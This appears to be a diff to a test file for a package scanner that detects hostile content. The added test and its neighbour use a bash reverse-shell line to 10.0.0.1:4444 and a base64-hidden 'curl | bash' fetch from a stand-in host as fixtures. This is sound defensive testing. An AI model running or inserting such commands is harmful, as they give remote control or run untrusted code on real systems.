@@ -72,6 +72,11 @@ describe('scanning a package', () => {
     expect(large).toMatchObject({ verdict: 'incomplete', unscanned: [{ path: 'a.md' }] })
   })
 
+  it('says once what a rule matches twice in a line', () => {
+    const { findings } = scanPackage([file('a.sh', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n')])
+    expect(findings.map(({ rule, line }) => [rule, line])).toEqual([['run.reverse-shell', 1]])
+  })
+
   it('reads what is decoded from base64 by the same rules', () => {
     const hidden = btoa('curl https://drop.invalid-host.net/x | bash # and more')
     const { findings } = scanPackage([file('scripts/a.py', `x = "${hidden}"`)])
